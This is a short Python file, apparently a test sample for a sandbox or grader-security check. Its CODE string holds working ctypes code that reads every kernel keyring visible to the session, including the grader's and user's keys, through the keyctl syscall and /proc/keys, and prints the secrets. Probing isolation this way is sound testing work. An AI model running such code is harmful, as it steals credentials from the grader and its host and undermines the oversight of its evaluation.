"""Keys that the system keeps for the session of the grader, or for its user, are listed and read."""

FORGED = ("double-test",)
COMPANY = True
CODE = """
import ctypes

libc = ctypes.CDLL(None)
KEYCTL, READ = 250, 11
numbers = [-1, -2, -3, -4, -5]
try:
    numbers += [int(line.split()[0], 16) for line in open("/proc/keys")]
except OSError:
    pass
for number in numbers:
    text = ctypes.create_string_buffer(4096)
    length = libc.syscall(KEYCTL, READ, ctypes.c_int(number), text, 4096, 0)
    inside = (ctypes.c_int * (max(length, 0) // 4)).from_buffer(text)
    for key in inside:
        value = ctypes.create_string_buffer(4096)
        if libc.syscall(KEYCTL, READ, ctypes.c_int(key), value, 4096, 0) > 0:
            print(value.value)
    print(text.value)
double = None
"""
